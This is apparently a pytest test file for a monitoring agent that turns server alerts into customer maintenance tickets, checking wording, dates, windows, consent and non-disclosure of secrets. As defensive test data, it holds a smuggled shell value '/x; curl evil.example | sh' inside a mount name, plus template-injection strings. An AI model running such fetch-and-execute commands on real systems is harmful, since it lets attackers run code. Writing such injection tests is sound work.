"""Tickets and comments as people read them: golden texts, and what has to hold for every one of them."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.facts import ActFacts, CaseFacts, MemberFacts, pack
from agent.host import HostIdentity
from agent.model import Operation
from agent.render import RenderContext, render_comment, render_ticket
from agent.settings import DAY, HOUR, CustomerSettings, HostSettings, Settings, WeeklyWindow, WindowSettings
from thresholds import Forecast, Severity
from ticketing_clients import Act, Bullets, Comment, Heading, Ticket, to_plain
from ticketing_clients._acts import told_by

BERLIN = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 23, 12, tzinfo=BERLIN).timestamp()  # a Monday
GOLDEN = Path(__file__).parents[1] / "golden" / "tickets"
CONTEXT = RenderContext(
    settings=Settings(
        host=HostSettings(role="web shop"),
        customer=CustomerSettings(id="acme", name="Acme Ltd", contact="it@acme.example"),
    ),
    host=HostIdentity(id="5f0c9f3b7a1d4e52", name="web01", os="Debian GNU/Linux 12"),
    zone=BERLIN,
    now=NOW,
    version="0.1.0",
)
DEAF = msgspec.structs.replace(CONTEXT, listens=False)
TOPICS = (
    "worse",
    "recovered",
    "not_fixed",
    "still_breaching",
    "closed",
    "returned",
    "digest",
    "members",
    "not_attached",
)

FILLING = CaseFacts(
    key="a1" * 32,
    rule="disk_space",
    remedy="disk_space",
    summary="A file system is running full",
    subject={"mountpoint": "/srv"},
    severity=Severity.WARNING,
    priority="P3",
    evidence={
        "value": 12e9,
        "limit": 0.0,
        "whole": 100e9,
        "unit": "bytes",
        "growth_per_day": 2.3e9,
        "growth_days": 9.2,
    },
    forecast=Forecast(NOW + 3.4 * DAY, NOW + 5.2 * DAY, NOW + 9 * DAY),
    first_seen=NOW - HOUR,
)


def case(rule: str, summary: str, **facts) -> CaseFacts:
    """Return facts of a case without a forecast, seen an hour ago."""
    return msgspec.structs.replace(
        FILLING, rule=rule, remedy=rule, summary=summary, **{"forecast": None, "evidence": {}, "subject": {}, **facts}
    )


CRITICAL = {"severity": Severity.CRITICAL, "priority": "P2"}
MEMBERS = (
    MemberFacts(rule="reboot_required", summary="A restart is due", severity=Severity.NOTICE, since=NOW - 9 * DAY),
    MemberFacts(rule="service_failed", summary="A service failed", subject={"unit": "backup.service"}),
    MemberFacts(rule="certificate", summary="a certificate runs out", subject={"name": "shop.example"}),
)
CASES = {
    "disk_space": FILLING,
    "disk_space_one_day": msgspec.structs.replace(
        FILLING, priority="P2", forecast=Forecast(NOW + 18 * HOUR, NOW + 20 * HOUR, NOW + 30 * HOUR)
    ),
    "disk_space_runaway": msgspec.structs.replace(
        FILLING, priority="P2", forecast=Forecast(NOW + 5 * HOUR, NOW + 6 * HOUR, NOW + 9 * HOUR)
    ),
    "disk_inodes": case(
        "disk_inodes",
        "A file system can hold hardly any more files",
        subject={"mountpoint": "/var"},
        evidence={"value": 31_250.0, "limit": 0.0, "whole": 1_000_000.0, "unit": "count"},
        forecast=Forecast(NOW + 20 * DAY, NOW + 50 * DAY, None),
        priority="P4",
    ),
    "disk_readonly": case("disk_readonly", "A disk became read-only", subject={"mountpoint": "/data"}, **CRITICAL),
    "memory_exhausted": case("memory_exhausted", "Memory runs out", **CRITICAL),
    "cpu_saturated": case(
        "cpu_saturated",
        "The processors are fully busy",
        evidence={"value": 0.973, "limit": 0.9, "unit": "ratio", "usual": 0.41, "busy_share": 0.08},
    ),
    "cpu_chronic": case(
        "cpu_saturated",
        "The processors are fully busy",
        evidence={"value": 0.973, "limit": 0.9, "unit": "ratio", "usual": 0.99, "busy_share": 0.71},
        priority="P4",
    ),
    "disk_teeth": msgspec.structs.replace(
        FILLING, evidence=FILLING.evidence | {"last_clean_up": NOW - 12 * DAY, "growth_days": 26.0}
    ),
    "service_failed": case("service_failed", "A service failed", subject={"unit": "nginx.service"}, **CRITICAL),
    "service_down": case("service_down", "A needed service is off", subject={"unit": "postfix.service"}, **CRITICAL),
    "process_missing": case("process_missing", "A program is missing", subject={"process": "worker"}, **CRITICAL),
    "os_support_end": case(
        "os_support_end",
        "The operating system's support ends",
        type="lifecycle",
        priority="P4",
        forecast=Forecast(NOW + 90 * DAY, NOW + 90 * DAY, NOW + 90 * DAY),
    ),
    "os_support_ended": case(
        "os_support_end",
        "The operating system's support ends",
        type="lifecycle",
        forecast=Forecast(NOW - 40 * DAY, NOW - 40 * DAY, NOW - 40 * DAY),
    ),
    "reboot_required": case("reboot_required", "A restart is due", since=NOW - 12 * DAY, priority="P4"),
    "kernel_outdated": case("kernel_outdated", "An old kernel runs", since=NOW - 30 * DAY, priority="P4"),
    "first_look": case("first_look", "", members=MEMBERS, priority="P3"),
    "maintenance_digest": case("maintenance_digest", "", members=MEMBERS[1:]),
    "storm": case("storm", "", subject={"began": "1795430000"}, members=MEMBERS, **CRITICAL),
    "overflow": case("overflow", "", subject={"began": "1795430000", "desk": "rt"}, members=MEMBERS),
    "generic": case(
        "certificate",
        "a certificate runs out",
        subject={"name": "shop.example"},
        evidence={"value": 6.0, "limit": 14.0, "unit": "count"},
        forecast=Forecast(NOW + 6 * DAY, NOW + 6 * DAY, NOW + 6 * DAY),
    ),
}
LATER = {
    "first_seen": NOW - 26 * HOUR,
    "opened_at": NOW - DAY,
    "healthy_since": NOW - 2 * HOUR,
    "closed_at": NOW - 0.5 * HOUR,
    "closed_by": "person",
    "opened": (NOW - 20 * DAY, NOW - 9 * DAY, NOW - DAY),
    "recurring": True,
    "acts": (
        ActFacts(kind="accept_window", at=NOW - 20 * HOUR, by="Ann Field"),
        ActFacts(kind="resolve", at=NOW - HOUR, by="Kim", text="Moved the old dumps to the archive."),
    ),
}


def ticket(facts: CaseFacts, context: RenderContext = CONTEXT) -> Ticket:
    """Return the ticket that opens a case with these facts."""
    return render_ticket(
        Operation(id="a1-1", case=facts.key, kind="open", topic="opened", facts=pack(facts), created_at=NOW), context
    )


def comment(topic: str, facts: CaseFacts, context: RenderContext = CONTEXT) -> Comment:
    """Return the comment on a topic about a case with these facts."""
    operation = Operation(
        id="a1-2", case=facts.key, kind="comment", topic=topic, public=True, facts=pack(facts), created_at=NOW
    )
    return render_comment(operation, context)


def text_of(rendered: Ticket | Comment) -> str:
    """Return everything a person reads."""
    title = f"{rendered.title}\n\n" if isinstance(rendered, Ticket) else ""
    return title + to_plain(rendered.body)


def later(facts: CaseFacts) -> CaseFacts:
    """Return the same case after it went its whole way, healthy evidence included."""
    healthy = {**facts.evidence, "value": 62e9} if facts.rule == "disk_space" else {}
    return msgspec.structs.replace(facts, **LATER, healthy_evidence=healthy)


@pytest.mark.parametrize("name", CASES)
def test_a_ticket_reads_as_on_record(name, golden):
    """Each shipped rule's ticket, and the generic one, is the text that was read and found good."""
    golden(GOLDEN / f"{name}.txt", text_of(ticket(CASES[name])))


@pytest.mark.parametrize("topic", TOPICS)
@pytest.mark.parametrize("name", ["disk_space", "service_failed", "first_look"])
def test_a_comment_reads_as_on_record(name, topic, golden):
    """Each comment is the text that was read and found good: with a forecast, without one, and of a gathering."""
    facts = later(CASES[name])
    if topic in {"digest", "members"}:
        facts = msgspec.structs.replace(facts, members=MEMBERS)
    golden(GOLDEN / f"{name}.{topic}.txt", text_of(comment(topic, facts)))


def test_a_desk_that_passes_nothing_on_asks_for_no_answer_in_the_ticket(golden):
    """Where nobody's answer reaches us, people are told what can be said on the host instead."""
    opened, over = ticket(FILLING, DEAF), comment("recovered", later(FILLING), DEAF)
    assert "foretell: " not in text_of(opened) + text_of(over)
    golden(GOLDEN / "disk_space.one_way.txt", text_of(opened) + "\n" + text_of(over))


def test_a_ticket_says_whether_somebody_has_consented_to_more():
    """Without anybody's consent how to give it; with it, where the rest is. The text itself is the core either way."""
    asked = []

    def allowed(rule, type_):
        asked.append((rule, type_))
        return "excerpt"

    none, more = text_of(ticket(FILLING)), text_of(ticket(FILLING, msgspec.structs.replace(CONTEXT, allowed=allowed)))
    assert asked == [("disk_space", "capacity")]
    assert "nobody has consented" in none
    assert "foretell consent grant" in none
    assert "nobody has consented" not in more
    assert "(level excerpt)" in more
    assert none.partition("What is not in here")[0] == more.partition("What is not in here")[0]


def everything() -> list[tuple[str, str]]:
    """Return every text there is: each case as a ticket and under each topic, with all facts and with hardly any."""
    texts = [
        (f"{name} one way", text_of(ticket(facts, DEAF)) + text_of(comment("recovered", later(facts), DEAF)))
        for name, facts in CASES.items()
    ]
    for name, full in CASES.items():
        bare = CaseFacts(key=full.key, rule=full.rule, remedy=full.remedy, first_seen=NOW)
        joined = msgspec.structs.replace(full, members=MEMBERS)
        for facts in (full, later(full), bare, msgspec.structs.replace(bare, severity=Severity.CRITICAL)):
            texts.append((f"{name} ticket", text_of(ticket(facts))))
            texts.extend(
                (f"{name} {topic}", text_of(comment(topic, joined if topic in {"digest", "members"} else facts)))
                for topic in TOPICS
            )
    return texts


ODD = re.compile(
    r"\bNone\b(?! of)|\bnan\b|\ue000|Undefined| [.,;:]|\.\.|  |\(\)|\b(\w+) \1\b|\bshould\b"
    r"|: *\n\n(?!\* )|: *\n(?!\n)|:\s*\Z",  # a label without its value, a list without its items
)


def test_no_text_has_a_hole_or_a_slip_in_it():
    """Whatever is known or not: no None, no doubled word, no stray space, no empty value, no "should"."""
    slips = [
        (name, text[max(found.start() - 40, 0) : found.end() + 20])
        for name, text in everything()
        for found in ODD.finditer(text)
    ]
    assert slips == []


def test_the_customer_reads_first_and_without_jargon():
    """Nothing before the engineer's heading names a tool, a rule id, a percentile or a key."""
    for name, facts in CASES.items():
        text = text_of(ticket(facts)).partition("For the engineer\n")[0]
        for word in ("inode", "kernel", "P10", "systemctl", "journalctl", "fsck", "swap", facts.key, "_"):
            assert word not in text.replace(facts.subject.get("unit", "-"), ""), (name, word)


def test_the_title_says_consequence_date_and_proposal():
    """The first line is what will be, when, what to do and when, in the customer's own time."""
    assert ticket(FILLING).title == (
        "The disk /srv of web01 could be full as early as Thursday 26 November; "
        "we suggest extending it on Tuesday 24 November at 00:15"
    )


def test_the_fields_of_a_ticket_are_what_its_text_says():
    """Crossing, windows, service times, device and customer are filled in UTC, and the windows are over in time."""
    made = ticket(FILLING)
    assert made.crossing == datetime.fromtimestamp(FILLING.forecast.earliest, UTC)
    assert made.crossing_expected == datetime.fromtimestamp(FILLING.forecast.expected, UTC)
    assert len(made.windows) == 3
    assert all(window.end <= made.crossing for window in made.windows)
    assert made.windows[0].reason == "starts in 12 hours and ends 3 days before it could happen"
    assert (made.service_times.first_response_due.timestamp() - NOW) / HOUR == 8
    assert (made.device.id, made.device.name, made.customer.name, made.subject) == (
        "5f0c9f3b7a1d4e52",
        "web01",
        "Acme Ltd",
        "/srv",
    )


def test_dates_are_in_the_customers_zone():
    """The same case reads in Shanghai's time for a customer in Shanghai."""
    text = text_of(ticket(FILLING, msgspec.structs.replace(CONTEXT, zone=ZoneInfo("Asia/Shanghai"))))
    assert "(UTC+08:00)" in text
    assert "(UTC+01:00)" not in text


def test_when_no_window_fits_it_says_so_and_is_more_urgent():
    """Hours on Sunday only, a crossing on Thursday: the ticket proposes none, says why, and is raised by one."""
    sunday = WindowSettings(weekly=[WeeklyWindow(days=["sun"], start="02:00", duration=4 * HOUR)])
    context = msgspec.structs.replace(CONTEXT, settings=msgspec.structs.replace(CONTEXT.settings, windows=sunday))
    made = ticket(FILLING, context)
    text = text_of(made)
    assert (made.windows, made.priority) == ((), "P2")
    assert made.title.endswith("; we suggest extending it now")
    assert "None of the maintenance hours set for web01 come early enough." in text
    assert "Sunday 29 November, 02:00 to 06:00 (UTC+01:00): too late" in text


def test_what_has_failed_waits_for_no_window():
    """A failed service proposes no time but now; a restart that is due keeps until a window."""
    assert ticket(CASES["service_failed"]).windows == ()
    assert ticket(CASES["service_failed"]).priority == "P2"
    assert len(ticket(CASES["reboot_required"]).windows) == 3


def test_work_that_needs_preparing_is_not_proposed_for_tonight():
    """Moving to another release is proposed two weeks from now at the soonest."""
    first = ticket(CASES["os_support_end"]).windows[0]
    assert first.start.timestamp() >= NOW + 14 * DAY


def test_every_answer_a_ticket_teaches_is_understood():
    """The lines that people are told to write are read by the desks as the acts they stand for."""
    for name, facts in CASES.items():
        found = []
        for rendered in (ticket(facts), comment("recovered", later(facts)), comment("not_fixed", later(facts))):
            for line in re.findall(r"foretell: (?:accept|defer|wontfix|confirm).*$", text_of(rendered), re.MULTILINE):
                reply = Act(id="7", kind="reply", by="Ann", at=datetime.fromtimestamp(NOW, UTC), text=line)
                acts = told_by(reply, line)
                assert len(acts) == 1, line
                found.append((acts[0].kind, acts[0].option))
        assert {kind for kind, _ in found} >= {"wont_fix", "confirm"}, name
        numbers = [option for kind, option in found if kind == "accept_window"]
        assert numbers == list(range(1, len(ticket(facts).windows) + 1))


def test_nothing_but_the_core_leaves_without_consent():
    """Names, paths and log lines in the evidence are in no text, whatever key they come under; nor is the system's name."""
    secrets = {
        "process": "payroll-q3",
        "path": "/home/ann/x",
        "line": "password=hunter2",
        "value": "s3cret",
        "unit": "ann",
    }
    for name, facts in CASES.items():
        told = msgspec.structs.replace(
            later(facts), evidence={**facts.evidence, **secrets}, healthy_evidence=secrets, members=()
        )
        texts = [msgspec.json.encode(ticket(told)), *(msgspec.json.encode(comment(topic, told)) for topic in TOPICS)]
        for text in texts:
            for secret in (*secrets.values(), "Debian GNU/Linux 12"):
                if secret != "ann":
                    assert secret.encode() not in text, (name, secret)


HOSTILE = st.text(max_size=30) | st.sampled_from(
    [
        "# Paid",
        "- free",
        "a :: b",
        "x\n# Heading",
        "x\n\n- y\n",
        "::",
        "\ue000",
        "{{ 7 * 7 }}",
        "%(host)s",
        "100 %",
        "\r\n\x0b# z",
    ]
)


@settings(max_examples=60, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(HOSTILE, HOSTILE, HOSTILE, st.sampled_from(sorted(CASES)), st.sampled_from(("ticket", *TOPICS)))
def test_a_hostile_name_makes_no_structure(subject, host, said, name, topic):
    """Whatever a disk, a host or a person is called, the document has the very same blocks."""

    def shape(subject, host, said):
        facts = msgspec.structs.replace(
            later(CASES[name]),
            subject={"label": f"a{subject}"},
            acts=(ActFacts(kind="reply", at=NOW, by=said, text=said),),
        )
        context = msgspec.structs.replace(
            CONTEXT,
            host=msgspec.structs.replace(CONTEXT.host, name=f"w{host}"),
        )
        rendered = ticket(facts, context) if topic == "ticket" else comment(topic, facts, context)
        blocks = rendered.body.blocks
        return [(type(block), len(block.items) if isinstance(block, Bullets) else 0) for block in blocks], [
            block.text for block in blocks if isinstance(block, Heading)
        ]

    assert shape(subject, host, said) == shape("b", "b", "b")


def test_a_hostile_name_is_still_readable():
    """What makes no structure is not lost either."""
    facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "# Paid :: {{ 7 * 7 }} %(x)s"})
    assert "The disk # Paid :: {{ 7 * 7 }} %(x)s of web01 could be full" in ticket(facts).title


def test_a_rule_that_lacks_its_own_words_borrows_those_of_its_remedy():
    """A rule added by configuration names a shipped remedy and gets its steps and proposal."""
    facts = msgspec.structs.replace(CASES["generic"], remedy="disk_space")
    assert "; we suggest extending it on " in ticket(facts).title
    assert "growpart" in text_of(ticket(facts))


def test_putting_off_is_never_offered_beyond_the_crossing():
    """The date a ticket gives as an example of putting off is before the trouble; with hours left it gives none."""
    assert "foretell: defer 2026-11-25" in text_of(ticket(FILLING))
    assert "foretell: defer" not in text_of(ticket(CASES["disk_space_runaway"]))


def test_the_fix_is_due_in_time_to_prevent_it():
    """The fix is due before the earliest crossing, whatever the service level allows, and not before a window proposed."""
    for facts in CASES.values():
        made = ticket(facts)
        if made.crossing is not None and made.crossing.timestamp() > NOW and facts.rule != "os_support_end":
            assert made.service_times.fix_due < made.crossing
        assert not made.windows or made.windows[0].end <= made.service_times.fix_due


def test_a_command_to_paste_holds_a_hostile_name_fast():
    """A mount that is named like a command stays one argument of the command an engineer may paste."""
    facts = msgspec.structs.replace(FILLING, subject={"mountpoint": "/x; curl evil.example | sh"})
    assert "du -xh --max-depth=2 '/x; curl evil.example | sh' | sort" in text_of(ticket(facts))


def test_a_date_beyond_all_calendars_does_not_stop_a_ticket():
    """A drift that ends in a million years, if ever, still makes a ticket for its earliest date."""
    far = NOW + 365e6 * DAY
    made = ticket(msgspec.structs.replace(FILLING, forecast=Forecast(NOW + 9 * DAY, far, far)))
    assert "Latest (P90): may never happen" in text_of(made)


def test_what_could_not_be_seen_is_said():
    """The engineer reads which checks had no answer at the time."""
    text = text_of(ticket(msgspec.structs.replace(FILLING, unseen=("services", "software"))))
    assert "could not be checked: services, software." in text


def test_a_report_claims_no_measurement_that_was_not_made():
    """A person closed a ticket of which nothing is measured any more, or that told of what still breaches."""
    measured = msgspec.structs.replace(FILLING, closed_at=NOW, closed_by="person", healthy_since=NOW - HOUR)
    assert "our measurements are good again" in text_of(comment("closed", measured))
    unmeasured = msgspec.structs.replace(measured, healthy_since=None)
    assert "our measurements are good again" not in text_of(comment("closed", unmeasured))
    assert "We cannot confirm it" in text_of(comment("closed", unmeasured))
